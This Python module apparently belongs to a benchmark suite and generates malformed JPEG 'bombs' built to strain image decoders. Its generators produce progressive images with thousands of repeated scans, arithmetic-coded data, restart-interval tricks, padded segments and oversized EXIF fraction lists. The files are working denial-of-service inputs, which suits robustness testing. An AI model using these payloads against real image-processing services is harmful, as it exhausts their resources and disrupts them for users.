"""JPEG bombs: scans, segments and EXIF."""

import struct
from collections.abc import Callable

import numpy as np

from benchmarks.attack.pictures import FULL, encode, flat, noise


def progressive_scans(width: int = 2500, height: int = 2500, scans: int = 10_000) -> bytes:
    """Make a progressive JPEG that refines the same coefficients again and again."""
    return repeat_last_scan(encode(flat(width, height), "JPEG", progressive=True), scans)


def textured_scans(width: int = 1600, height: int = 1600, scans: int = 2000) -> bytes:
    """Make a progressive JPEG of noise that refines all coefficients. The later scans hold no data."""
    image = encode(noise(width, height), "JPEG", progressive=True, quality=50)
    start = image.rindex(b"\xff\xda")
    return image[:-2] + image[start : start + 2 + image[start + 3]] * scans + b"\xff\xd9"


def apart_scans(width: int = 2000, height: int = 2000, scans: int = 5000) -> bytes:
    """Make a baseline JPEG with one scan per colour. The first scan is repeated, truncated."""
    image = encode(flat(width, height), "JPEG", subsampling=0)
    start = image.rindex(b"\xff\xda")
    scan = b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, 1, 0, 0, 63, 0) + image[start + 14 : start + 5014]
    number = min(scans, (FULL - start) // len(scan))
    return image[:start] + scan * number + b"\xff\xd9"


def tiny_scans(count: int = 500_000) -> bytes:
    """Make a progressive JPEG of one block with as many scans as fit."""
    image = encode(flat(8, 8, "L"), "JPEG", progressive=True)
    start = image.rindex(b"\xff\xda")
    scan = image[start:-2]
    return image[:-2] + scan * min(count, FULL // len(scan)) + b"\xff\xd9"


def restarts(width: int = 2500, height: int = 2500, scans: int = 200) -> bytes:
    """Make a progressive JPEG with a restart interval of one, and no restart marker."""
    image = encode(flat(width, height), "JPEG", progressive=True)
    start = image.index(b"\xff\xda")
    image = image[:start] + b"\xff\xdd\x00\x04\x00\x01" + image[start:]
    return repeat_last_scan(image, scans)


def arithmetic(width: int = 2500, height: int = 2500, *, progressive: bool = True) -> bytes:
    """Make a JPEG with arithmetic coding, whose data need many decisions."""
    image = encode(flat(width, height), "JPEG", progressive=progressive)
    image = image.replace(b"\xff\xc2\x00\x11", b"\xff\xca\x00\x11").replace(b"\xff\xc0\x00\x11", b"\xff\xc9\x00\x11")
    scans = image[: image.index(b"\xff\xda")]
    data = np.random.default_rng(0).integers(0, 255, 150_000, dtype=np.uint8).tobytes()
    if not progressive:
        start = image.index(b"\xff\xda")
        return scans + image[start : start + 14] + data * 20 + b"\xff\xd9"
    for component in (1, 2, 3):
        scans += b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, component, 0, 0, 0, 0) + data
        for _ in range(10):
            scans += b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, component, 0, 1, 63, 0) + data
    return scans + b"\xff\xd9"


def jpeg_segments(segment: bytes = b"\xff\xe5\x00\x02", size: int = FULL) -> bytes:
    """Make a JPEG with as many segments, or as much padding, as fit before its image."""
    image = encode(noise(64, 64), "JPEG")
    return image[:2] + b"\xff\xe5\x00\x02" + segment * (size // len(segment)) + image[2:]


def jpeg_exif(size: int = FULL) -> bytes:
    """Make a JPEG whose EXIF holds very many fractions."""
    image = encode(noise(64, 64), "JPEG")
    exif = exif_of_fractions(size)
    parts = [b"Exif\0\0" + exif[start : start + 65_000] for start in range(0, len(exif), 65_000)]
    segments = b"".join(b"\xff\xe1" + struct.pack(">H", len(part) + 2) + part for part in parts)
    return image[:2] + segments + image[20:]


def exif_of_fractions(size: int) -> bytes:
    """Make a TIFF directory whose resolution and orientation are lists of fractions."""
    count = (size - 100) // 16
    tags = [struct.pack("<HHII", tag, 5, count, 40 + 8 * count * index) for index, tag in enumerate((0x11A, 0x112))]
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + b"".join(tags) + bytes(6) + b"\1\0\0\0" * (4 * count)


def repeat_last_scan(image: bytes, scans: int) -> bytes:
    """Add copies of the last scan of a JPEG."""
    scan = image[image.rindex(b"\xff\xda") : -2]
    return image[:-2] + scan * min(scans, (FULL - len(image)) // len(scan)) + b"\xff\xd9"


JPEGS: dict[str, Callable[[], bytes]] = {
    "JPEG, progressive scans": progressive_scans,
    "JPEG, progressive scans of noise": textured_scans,
    "JPEG, scans of a colour": apart_scans,
    "JPEG, scans of one block": tiny_scans,
    "JPEG, restarts": restarts,
    "JPEG, arithmetic": lambda: arithmetic(progressive=False),
    "JPEG, arithmetic and progressive": arithmetic,
    "JPEG, empty segments": jpeg_segments,
    "JPEG, padding": lambda: jpeg_segments(b"\xff"),
    "JPEG, junk": lambda: jpeg_segments(b"x"),
    "JPEG, comments": lambda: jpeg_segments(b"\xff\xfe\x00\x02"),
    "JPEG, fractions": jpeg_exif,
}
